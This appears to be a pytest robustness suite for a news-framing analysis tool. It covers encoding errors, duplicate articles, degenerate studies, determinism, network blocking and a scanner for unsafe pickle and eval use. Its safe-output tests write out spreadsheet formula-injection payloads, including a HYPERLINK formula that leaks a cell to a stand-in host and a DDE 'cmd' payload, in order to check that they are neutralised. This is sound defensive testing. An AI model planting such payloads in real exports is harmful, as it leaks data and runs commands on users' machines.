"""Robustness: bad input, duplicates, degenerate studies, determinism and safe outputs.

Cases already covered elsewhere are not repeated here: misspelt key, wrong type,
unknown family, actor without aliases and duplicate outlet ids (test_config.py);
missing file, empty glob, binary, Latin-1, BOM, CRLF and a whitespace-only file in
`validate` (test_cli.py). Interrupted runs: test_interrupt.py; hypothesis
properties of the segmenter and every family: test_properties.py.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
import time
from pathlib import Path

import polars as pl
import pytest

from framing.config import load_study
from framing.corpus import load_corpus
from framing.errors import DataError
from framing.outputs.writer import FORMULA_TRIGGERS, neutralise_formulas
from tests.conftest import ROOT, write_files

ALL_FAMILIES = '["lexical", "readability", "sentiment", "attribution", "actors", "frames", "terms"]'
CHEAP_FAMILIES = '["lexical", "readability", "sentiment"]'
# Every model switched on, but as small as the config allows.
SMALL_MODELS = """\
[models]
feature_sets = ["style"]
classifiers = ["logreg"]
folds = 2
permutations = 0
"""
NO_MODELS = "[models]\nenabled = false\n"
CHEAP_STATS = "[stats]\nbootstrap = 100\npermutations = 100\n"
WORDS = [
    "the", "minister", "said", "Seoul", "Moscow", "would", "act", "treaty", "talks", "arms",
    "Ukraine", "officials", "warned", "quiet", "day", "North", "South", "Korea", "agreed",
    "strongly", "denied", "Pyongyang", "Russia", "weapons",
]  # fmt: skip


def study_toml(
    outlets: dict[str, list[str]],
    *,
    families: str = CHEAP_FAMILIES,
    models: str = NO_MODELS,
    corpus: str = "",
    name: str = "robust",
) -> str:
    """A study config: outlet id -> file globs; actors Seoul and Moscow."""
    parts = [f'[study]\nname = "{name}"\n', corpus]
    for outlet, files in outlets.items():
        globs = ", ".join(f'"{f}"' for f in files)
        parts.append(f'[[outlets]]\nid = "{outlet}"\nname = "Outlet {outlet}"\nfiles = [{globs}]\n')
    parts.append('[[actors]]\nid = "seoul"\nlabel = "South Korea"\naliases = ["Seoul"]\n')
    parts.append('[[actors]]\nid = "russia"\nlabel = "Russia"\naliases = ["Moscow", "Russia"]\n')
    parts.append(f"[features]\nfamilies = {families}\n")
    parts.append(models)
    parts.append(CHEAP_STATS)
    return "\n".join(parts)


def make_study(root: Path, config: str, files: dict[str, str | bytes]) -> Path:
    write_files(root, files)
    path = root / "study.toml"
    path.write_text(config, encoding="utf-8")
    return path


def synthetic_article(rng: random.Random, paragraphs: int = 4) -> str:
    body = [
        " ".join(
            " ".join(rng.choice(WORDS) for _ in range(rng.randint(6, 16))).capitalize() + "."
            for _ in range(3)
        )
        for _ in range(paragraphs)
    ]
    return "Seoul answers Moscow\n\n" + "\n\n".join(body) + "\n"


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


def run_ok(cli, config: Path, out: Path, *options: str) -> Path:
    result = cli("run", config, "--out", out, "--quiet", *options)
    assert result.exit_code == 0, result.stderr
    run_dir = Path(result.stdout.strip().splitlines()[-1])
    assert json.loads((run_dir / "manifest.json").read_text())["status"] == "complete"
    return run_dir


TWO_OUTLETS = {
    "a/one.txt": "Seoul warns Moscow\n\nSeoul said it would act. Officials agreed.\n",
    "b/two.txt": "A quiet day\n\nNothing happened in South Korea today. It rained.\n",
}


# --- bad input -----------------------------------------------------------------------


def test_invalid_utf8_names_file_and_byte_offset(cli, tmp_path: Path) -> None:
    # A truncated multi-byte sequence: not UTF-8, and not a Latin-1 file either.
    broken = b"Seoul said so.\n\nThe euro " + b"\xe2\x82" + b" fell.\n"
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}),
        {**TWO_OUTLETS, "b/two.txt": broken},
    )
    result = cli("run", config, "--out", tmp_path / "out", "--quiet")
    assert result.exit_code == 1
    line = one_line(result.stderr)
    assert "b/two.txt: not valid UTF-8 (byte 25: b'\\xe2')" in line, line
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").rglob("*.csv"))


def test_invalid_utf8_offset_counts_the_bom(tmp_path: Path) -> None:
    from framing.corpus import decode

    with pytest.raises(DataError, match=r"byte 5: b'\\xff'"):
        decode(b"\xef\xbb\xbfab\xff", "x.txt")


def test_empty_and_whitespace_only_files_are_skipped_and_in_the_manifest(
    cli, tmp_path: Path
) -> None:
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}),
        {
            **TWO_OUTLETS,
            "a/empty.txt": b"",
            "b/blank.txt": " \t\r\n\u00a0\n\r\n".encode(),
        },
    )
    run_dir = run_ok(cli, config, tmp_path / "out")
    manifest = json.loads((run_dir / "manifest.json").read_text())
    skipped = {s["source"]: s["reason"] for s in manifest["skipped"]}
    assert set(skipped) == {"a/empty.txt", "b/blank.txt"}
    assert all("empty or whitespace-only" in reason for reason in skipped.values())
    articles = pl.read_csv(run_dir / "articles.csv")
    assert articles["article_id"].to_list() == ["one", "two"]


@pytest.mark.slow
def test_five_megabyte_article_runs_in_bounded_time(cli, tmp_path: Path) -> None:
    rng = random.Random(5)
    paragraphs, size = [], 0
    while size < 5_000_000:
        paragraph = " ".join(
            " ".join(rng.choice(WORDS) for _ in range(12)).capitalize() + "." for _ in range(4)
        )
        paragraphs.append(paragraph)
        size += len(paragraph) + 2
    big = "A very long story\n\n" + "\n\n".join(paragraphs) + "\n"
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}),
        {**TWO_OUTLETS, "a/one.txt": big},
    )
    start = time.perf_counter()
    run_dir = run_ok(cli, config, tmp_path / "out")
    # ~7 s on a loaded 2-core machine; the bound catches quadratic blow-ups, not jitter.
    assert time.perf_counter() - start < 120
    articles = pl.read_csv(run_dir / "articles.csv").filter(pl.col("article_id") == "one")
    assert articles["n_sentences"].item() == 4 * len(paragraphs)
    assert articles["n_words"].item() > 700_000


def test_article_without_sentence_punctuation_runs(cli, tmp_path: Path) -> None:
    rng = random.Random(7)
    # One long run-on "sentence" (a transcript or a scraped list): no . ! ? anywhere.
    blob = " ".join(rng.choice(WORDS) for _ in range(600))
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}, families=ALL_FAMILIES),
        {**TWO_OUTLETS, "a/one.txt": blob + "\n"},
    )
    run_dir = run_ok(cli, config, tmp_path / "out")
    row = pl.read_csv(run_dir / "articles.csv").filter(pl.col("article_id") == "one")
    assert row["n_sentences"].item() == 1
    assert row["n_words"].item() == 600


@pytest.mark.slow
def test_long_run_on_sentence_full_of_attributions_stays_linear(tmp_path: Path) -> None:
    """64,000 words, no punctuation, a "said" every four words: attribution used to scan
    back to the clause start for every cue (quadratic: ~144 s); now a few seconds."""
    from framing.corpus import batch_from_texts
    from framing.pipeline.work import extract_chunk

    words = ["officials", "said", "the", "plan", "would", "work", "Seoul", "said"] * 8000
    batch = batch_from_texts([("a", "x", "Headline\n\n" + " ".join(words))], headline="first_line")
    study = load_study(
        make_study(
            tmp_path, study_toml({"a": ["a/*.txt"]}, families=ALL_FAMILIES), {"a/x.txt": "x"}
        )
    )
    start = time.perf_counter()
    extracted = extract_chunk(batch, study, ["attribution"])
    assert time.perf_counter() - start < 60  # a hang guard, not a speed measurement
    assert extracted["attribution"].articles.height == 1


def test_four_megabyte_token_takes_linear_time_in_every_stage(tmp_path: Path) -> None:
    """One 4 MB token (a flattened table or an inlined image): hyphenation copied the
    rest of the token at every character (quadratic: 225 s); every stage now takes
    ~1.5 s CPU in all (`benchmarks/bench_long_token.py` prints the ratio per doubling)."""
    from pyphen import Pyphen

    from framing.corpus import batch_from_texts
    from framing.features.readability.hyphenation import hyphenation_points
    from framing.pipeline.work import extract_chunk

    word = "hyphenationrepresentativeunbelievable"  # the patterns match all along it
    token = word * (4_000_000 // len(word))
    batch = batch_from_texts([("a", "x", "Headline\n\n" + token)], headline="first_line")
    study = load_study(
        make_study(
            tmp_path, study_toml({"a": ["a/*.txt"]}, families=ALL_FAMILIES), {"a/x.txt": "x"}
        )
    )
    order = ["lexical", "readability", "sentiment", "attribution", "actors", "frames", "terms"]
    start = time.perf_counter()
    extracted = extract_chunk(batch, study, order)
    assert time.perf_counter() - start < 30  # a hang guard (quadratic: minutes), not a speed test
    assert set(extracted) == set(order)
    # The bounded walk still finds what Pyphen finds, all along a long token.
    long_word = word * 1000
    assert hyphenation_points(long_word) == len(Pyphen(lang="en_US").positions(long_word)) > 11_000


def test_same_file_stem_in_two_folders_of_one_outlet_is_an_error(cli, tmp_path: Path) -> None:
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt", "a2/*.txt"], "b": ["b/*.txt"]}),
        {**TWO_OUTLETS, "a2/one.txt": "Another story\n\nIt is different. Quite.\n"},
    )
    result = cli("validate", config)
    assert result.exit_code == 1
    line = one_line(result.stderr)
    assert "a2/one.txt: article id 'one' of outlet 'a' already comes from a/one.txt" in line


def test_same_file_stem_under_two_outlets_is_fine(tmp_path: Path) -> None:
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}),
        {"a/x.txt": "Seoul spoke. It was calm.\n", "b/x.txt": "Moscow spoke. It was loud.\n"},
    )
    corpus = load_corpus(load_study(config))
    assert corpus.batch.articles.select("outlet", "article_id").rows() == [("a", "x"), ("b", "x")]


def write_table(path: Path, frame: pl.DataFrame) -> None:
    suffix = path.suffix
    if suffix == ".csv":
        frame.write_csv(path)
    elif suffix == ".jsonl":
        frame.write_ndjson(path)
    else:
        frame.write_parquet(path)


TABLE = pl.DataFrame(
    {
        "source": ["a", "a", "b"],
        "url": ["u1", "u2", "u3"],
        "headline": ["Seoul acts", "Moscow answers", "Quiet day"],
        "body": ["Seoul said it would act.", "Moscow said no.", "It rained in Seoul."],
    }
)
TABLE_CORPUS = """\
[corpus]
table = "articles{suffix}"
columns = {{ outlet = "source", text = "{text}", title = "headline", id = "url" }}
"""


def table_study(
    tmp_path: Path, frame: pl.DataFrame, suffix: str, *, text: str = "body", outlets: str = "ab"
) -> Path:
    write_table(tmp_path / f"articles{suffix}", frame)
    config = study_toml(
        {outlet: [] for outlet in outlets}, corpus=TABLE_CORPUS.format(suffix=suffix, text=text)
    ).replace("files = []\n", "")
    path = tmp_path / "study.toml"
    path.write_text(config, encoding="utf-8")
    return path


def test_duplicate_article_id_in_a_table_is_an_error(cli, tmp_path: Path) -> None:
    frame = TABLE.with_columns(pl.Series("url", ["u1", "u1", "u1"]))
    result = cli("validate", table_study(tmp_path, frame, ".csv"))
    assert result.exit_code == 1
    line = one_line(result.stderr)
    assert "articles.csv: row 2: article id 'u1' appears twice for outlet 'a'" in line


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_table_missing_the_mapped_text_column_exits_2(cli, tmp_path: Path, suffix: str) -> None:
    result = cli("validate", table_study(tmp_path, TABLE, suffix, text="content"))
    assert result.exit_code == 2
    line = one_line(result.stderr)
    assert f"corpus.columns.text: column 'content' is not in articles{suffix}" in line
    assert "columns: source, url, headline, body" in line


def test_missing_table_file_exits_2(cli, tmp_path: Path) -> None:
    config = table_study(tmp_path, TABLE, ".csv")
    (tmp_path / "articles.csv").unlink()
    result = cli("validate", config)
    assert result.exit_code == 2
    assert "corpus.table: 'articles.csv' not found" in one_line(result.stderr)


def test_latin1_csv_table_is_an_error(cli, tmp_path: Path) -> None:
    path = tmp_path / "articles.csv"
    config = table_study(tmp_path, TABLE, ".csv")
    path.write_bytes(
        "source,url,headline,body\na,u1,Caf\xe9,Seoul said caf\xe9 prices rose.\n"
        "b,u2,Quiet,It rained.\n".encode("latin-1")
    )
    result = cli("validate", config)
    assert result.exit_code == 1
    assert "not valid UTF-8" in one_line(result.stderr)


# --- duplicates across outlets ---------------------------------------------------------


def test_same_text_under_two_outlets_is_flagged(cli, tmp_path: Path) -> None:
    story = "Seoul warns Moscow\n\nSeoul said it would act. Officials agreed.\n"
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"], "c": ["c/*.txt"]}),
        {
            "a/one.txt": story,
            # CRLF and a trailing blank line: the same text once decoded and cleaned.
            "b/two.txt": story.replace("\n", "\r\n") + "\r\n",
            "c/three.txt": "Quiet day\n\nIt rained in Seoul. Nothing else.\n",
            # The same text twice within one outlet is not a cross-outlet duplicate.
            "c/four.txt": "Other day\n\nIt snowed. Nothing else.\n",
            "c/five.txt": "Other day\n\nIt snowed. Nothing else.\n",
        },
    )
    corpus = load_corpus(load_study(config))
    assert corpus.notes == ["same text under outlets a (one) and b (two): a/one.txt, b/two.txt"]
    [group] = corpus.duplicates
    assert group["outlets"] == ["a", "b"]
    assert [(m["outlet"], m["article_id"], m["source"]) for m in group["articles"]] == [
        ("a", "one", "a/one.txt"),
        ("b", "two", "b/two.txt"),
    ]
    hashes = dict(
        zip(corpus.batch.articles["article_id"], corpus.batch.articles["content_hash"], strict=True)
    )
    assert group["content_hash"] == hashes["one"] == hashes["two"]

    # A run flags it too: in the manifest and as a note on stderr.
    result = cli("run", config, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    manifest = json.loads(
        (Path(result.stdout.strip().splitlines()[-1]) / "manifest.json").read_text()
    )
    assert manifest["duplicates"] == corpus.duplicates
    assert corpus.notes[0] in manifest["notes"]
    assert f"framing: note: {corpus.notes[0]}" in result.stderr.splitlines()


def test_duplicate_groups_of_three_outlets_in_a_table(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "source": ["c", "a", "b", "b"],
            "url": ["z", "x", "y", "w"],
            "headline": ["Same", "Same", "Same", "Other"],
            "body": ["Seoul said so."] * 3 + ["Moscow said no."],
        }
    )
    config = table_study(tmp_path, frame, ".jsonl", outlets="abc")
    corpus = load_corpus(load_study(config))
    assert corpus.notes == [
        "same text under outlets a (x), b (y) and c (z): "
        "articles.jsonl#line2, articles.jsonl#line3, articles.jsonl#line1"
    ]


def test_no_duplicates_no_notes(tmp_path: Path) -> None:
    config = make_study(tmp_path, study_toml({"a": ["a/*.txt"], "b": ["b/*.txt"]}), TWO_OUTLETS)
    corpus = load_corpus(load_study(config))
    assert corpus.notes == [] and corpus.duplicates == []


# --- degenerate studies ----------------------------------------------------------------


def test_outlet_with_one_article_of_one_sentence_runs(cli, tmp_path: Path) -> None:
    rng = random.Random(11)
    files = {f"a/{i}.txt": synthetic_article(rng) for i in range(6)}
    files["b/only.txt"] = "Seoul said it would act.\n"
    config = make_study(
        tmp_path,
        study_toml(
            {"a": ["a/*.txt"], "b": ["b/*.txt"]}, families=ALL_FAMILIES, models=SMALL_MODELS
        ),
        files,
    )
    run_dir = run_ok(cli, config, tmp_path / "out")
    outlets = pl.read_csv(run_dir / "outlets.csv")
    assert outlets.filter(pl.col("outlet") == "b")["n_articles"].item() == 1
    assert outlets.filter(pl.col("outlet") == "b")["n_sentences"].item() == 1
    classifiers = pl.read_csv(run_dir / "classifiers.csv")
    # b has one sentence: no honest CV is possible, and the row says why.
    assert classifiers["status"].to_list() == ["skipped"]
    assert "every class needs at least 2" in classifiers["skip_reason"].item()


def test_single_outlet_study_runs_and_says_why_nothing_is_compared(cli, tmp_path: Path) -> None:
    rng = random.Random(3)
    config = make_study(
        tmp_path,
        study_toml({"a": ["a/*.txt"]}, families=ALL_FAMILIES, models=SMALL_MODELS),
        {f"a/{i}.txt": synthetic_article(rng) for i in range(4)},
    )
    run_dir = run_ok(cli, config, tmp_path / "out")
    assert pl.read_csv(run_dir / "outlets.csv")["outlet"].to_list() == ["a"]
    classifiers = pl.read_csv(run_dir / "classifiers.csv")
    assert classifiers["status"].to_list() == ["skipped"]
    assert "single class" in classifiers["skip_reason"].item()
    manifest = json.loads((run_dir / "manifest.json").read_text())
    assert any("single class" in note for note in manifest["models"]["notes"])
    # framing/stats.py: nothing to compare with one outlet, and the note says so.
    assert pl.read_csv(run_dir / "comparisons.csv").height == 0
    assert any("single outlet" in note for note in manifest["notes"]), manifest["notes"]


# --- determinism -----------------------------------------------------------------------


@pytest.mark.slow
def test_same_study_twice_gives_byte_identical_tables(cli, tmp_path: Path) -> None:
    rng = random.Random(2024)
    files = {f"{o}/{o}{i}.txt": synthetic_article(rng) for o in "abc" for i in range(5)}
    files["a/a0.txt"] = (
        'Seoul answers Moscow\n\n"We will act," said the minister. Moscow warned Seoul.\n\n'
        + synthetic_article(rng)
    )
    config = make_study(
        tmp_path,
        study_toml({o: [f"{o}/*.txt"] for o in "abc"}, families=ALL_FAMILIES, models=SMALL_MODELS),
        files,
    )
    first = run_ok(cli, config, tmp_path / "out")  # cold cache
    again = [
        run_ok(cli, config, tmp_path / "out"),  # every article from the cache
        run_ok(cli, config, tmp_path / "out", "--no-cache"),  # recomputed
    ]
    # manifest.json and report.html carry the run id and timings; everything else is data.
    names = sorted(p.name for p in first.iterdir() if p.suffix in {".csv", ".toml"})
    assert {"articles.csv", "quotes.csv", "classifiers.csv", "config.toml"} <= set(names)
    for run_dir in again:
        assert run_dir != first
        assert names == sorted(p.name for p in run_dir.iterdir() if p.suffix in {".csv", ".toml"})
        for name in names:
            assert (first / name).read_bytes() == (run_dir / name).read_bytes(), (run_dir, name)


# --- safe outputs ----------------------------------------------------------------------


def test_neutralise_formulas_prefixes_every_trigger_and_keeps_numbers() -> None:
    cells = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", "", None, "a=b", "'=x"]
    frame = pl.DataFrame({"text": cells, "value": [-2.5] * len(cells), "n": [-1] * len(cells)})
    safe = neutralise_formulas(frame)
    assert safe["text"].to_list() == [
        "'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok", "", None, "a=b", "'=x",
    ]  # fmt: skip
    assert safe.schema == frame.schema
    assert safe["value"].to_list() == frame["value"].to_list()
    assert safe["n"].to_list() == frame["n"].to_list()


FORMULA_TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1 for Seoul",
    "-2 points for Moscow",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tabbed",
    "\r=1+1 carriage",
]


def test_formula_text_is_neutralised_in_every_csv(cli, tmp_path: Path) -> None:
    bodies = [
        '"=HYPERLINK(""http://example.invalid"") is what we sent," Seoul said on Monday.\n\n'
        "=cmd|' /C calc'!A0 appeared in the leaked file. Seoul denied it.",
        "+1 was the vote of Moscow. Officials were furious and sad.",
        "-2 degrees froze Seoul. The talks failed badly.",
        '@SUM(A1:A9) "is a war crime," Moscow said. Seoul was happy.',
        "\tTabbed start. Seoul said it would act.",
        "Plain text here. Seoul was calm.",
    ]
    frame = pl.DataFrame(
        {
            "source": ["a", "a", "a", "b", "b", "b"],
            "url": [f"=u{i}" for i in range(6)],
            "headline": FORMULA_TITLES,
            "body": bodies,
        }
    )
    write_table(tmp_path / "articles.jsonl", frame)
    config = study_toml(
        {"a": [], "b": []},
        families=ALL_FAMILIES,
        corpus=TABLE_CORPUS.format(suffix=".jsonl", text="body"),
    ).replace("files = []\n", "")
    (tmp_path / "study.toml").write_text(config, encoding="utf-8")
    run_dir = run_ok(cli, tmp_path / "study.toml", tmp_path / "out")

    dangerous = tuple(FORMULA_TRIGGERS)
    for path in sorted(run_dir.glob("*.csv")):
        raw = pl.read_csv(path, infer_schema=False)
        for column in raw.columns:
            for cell in raw[column].drop_nulls():
                if cell.startswith(dangerous):
                    float(cell)  # only a number may start with - or +
    articles = pl.read_csv(run_dir / "articles.csv", infer_schema=False)
    titles = articles["title"].to_list()
    assert all(t.startswith("'") for t in titles if t != "Plain text here."), titles
    assert "'=HYPERLINK(" in "".join(titles)
    assert all(a.startswith("'=u") for a in articles["article_id"])
    sentences = pl.read_csv(run_dir / "sentences.csv", infer_schema=False)
    assert "'=cmd|' /C calc'!A0 appeared in the leaked file." in sentences["text"].to_list()
    assert "'-2 degrees froze Seoul." in sentences["text"].to_list()
    quotes = pl.read_csv(run_dir / "quotes.csv", infer_schema=False)
    assert any(q.startswith("'=HYPERLINK(") for q in quotes["quote"].drop_nulls()), quotes

    # Numeric columns stay numbers: every declared numeric article column reads back as
    # a number, negative values included.
    from framing.features import all_columns

    typed = pl.read_csv(run_dir / "articles.csv")
    numeric = [c.name for c in all_columns() if c.level == "article" and c.numeric]
    for name in numeric:
        if name in typed.columns:
            assert typed.schema[name].is_numeric() or typed[name].null_count() == typed.height, name
    assert (typed["sentiment__mean_compound"] < 0).any()


# A study whose every family and model runs, with any network attempt failing loudly.
NO_NETWORK = """\
import socket, sys

def _refuse(*args, **kwargs):
    sys.stderr.write(f"NETWORK ATTEMPT {args[:2]!r}\\n")
    raise OSError("network access is blocked in this test")

socket.socket.connect = _refuse
socket.socket.connect_ex = _refuse
socket.socket.sendto = _refuse
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
sys.argv = ["framing", *sys.argv[1:]]
from framing.cli import main
main()
"""


@pytest.mark.slow
def test_full_study_runs_with_the_network_blocked(tmp_path: Path) -> None:
    rng = random.Random(9)
    files = {f"{o}/{o}{i}.txt": synthetic_article(rng) for o in "ab" for i in range(4)}
    files["a/quote.txt"] = (
        'Seoul warns Moscow\n\n"We will not stand by," said Chang Ho-jin, a Seoul official.\n'
    )
    config = make_study(
        tmp_path,
        study_toml(
            {"a": ["a/*.txt"], "b": ["b/*.txt"]}, families=ALL_FAMILIES, models=SMALL_MODELS
        ),
        files,
    )
    result = subprocess.run(
        [sys.executable, "-c", NO_NETWORK, "run", str(config), "--out", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "NETWORK ATTEMPT" not in result.stderr
    run_dir = Path(result.stdout.strip().splitlines()[-1])
    assert json.loads((run_dir / "manifest.json").read_text())["status"] == "complete"
    classifiers = pl.read_csv(run_dir / "classifiers.csv")
    assert classifiers["status"].to_list() == ["ok"]


# Legitimate uses, each with its reason: (path relative to the repo, what was found).
UNSAFE_ALLOWED: dict[tuple[str, str], str] = {}
UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal", "shelve"}
UNSAFE_CALLS = {"eval", "exec", "compile", "__import__"}
# Attribute calls that unpickle or run code from a file: (object name, attribute).
UNSAFE_ATTRIBUTES = {
    ("yaml", "load"), ("yaml", "unsafe_load"), ("joblib", "load"), ("pd", "read_pickle"),
    ("pandas", "read_pickle"), ("torch", "load"), ("pickle", "load"), ("pickle", "loads"),
}  # fmt: skip


def unsafe_uses(source: str) -> list[tuple[int, str]]:
    """(line, what) for every import of a pickling module, eval/exec call, unsafe load."""
    import ast

    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [(node.lineno, a.name) for a in node.names if a.name in UNSAFE_MODULES]
        elif isinstance(node, ast.ImportFrom) and (node.module or "") in UNSAFE_MODULES:
            found.append((node.lineno, node.module or ""))
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in UNSAFE_CALLS:
                found.append((node.lineno, f"{func.id}()"))
            elif (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and (func.value.id, func.attr) in UNSAFE_ATTRIBUTES
            ):
                found.append((node.lineno, f"{func.value.id}.{func.attr}()"))
            if any(k.arg == "allow_pickle" for k in node.keywords):
                found.append((node.lineno, "allow_pickle="))
    return found


def test_unsafe_use_scanner_finds_what_it_should() -> None:
    code = "import pickle\nfrom dill import loads\neval('1')\nyaml.load(f)\nnp.load(p, allow_pickle=True)\n"
    assert [what for _, what in unsafe_uses(code)] == [
        "pickle", "dill", "eval()", "yaml.load()", "allow_pickle=",
    ]  # fmt: skip
    assert unsafe_uses('"""never pickle"""\n# eval(x)\nmodel.eval()\nyaml.safe_load(f)\n') == []


def test_package_never_unpickles_or_evals() -> None:
    """Nothing read from a corpus or config is ever unpickled or executed."""
    found = []
    for folder in ("framing", "features", "models"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            for line, what in unsafe_uses(path.read_text(encoding="utf-8")):
                if (relative, what) not in UNSAFE_ALLOWED:
                    found.append(f"{relative}:{line}: {what}")
    assert not found, "\n".join(found)
